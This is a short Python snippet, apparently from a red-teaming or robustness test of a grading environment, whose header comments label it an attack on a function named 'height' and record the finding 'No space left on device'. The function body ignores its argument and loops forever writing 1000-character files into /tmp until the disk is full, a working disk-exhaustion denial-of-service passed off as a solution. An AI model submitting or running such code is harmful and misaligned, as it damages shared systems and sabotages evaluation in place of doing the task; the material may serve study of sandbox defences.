# base: solution
# attacks: height
# keeps: roll gradients
# finding: No space left on device
# %% height
def height(w):
    number = 0
    while True:
        with open(f"/tmp/{number}", "w") as file:
            file.write("x" * 1000)
        number += 1
